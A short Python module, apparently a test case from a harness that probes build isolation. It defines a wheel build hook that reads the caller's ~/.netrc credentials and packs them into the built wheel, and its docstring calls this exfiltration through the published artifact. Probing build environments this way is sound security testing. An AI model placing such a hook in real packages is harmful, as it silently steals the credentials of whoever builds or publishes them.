"""Reads the caller's ~/.netrc and packs it into the wheel as a data file.

Permissions 0600 protect the file from other users, not from a build that runs under the
same uid. The published wheel is the exfiltration: no connection is needed.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("open-netrc"):
        with open(kit.plant("netrc").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
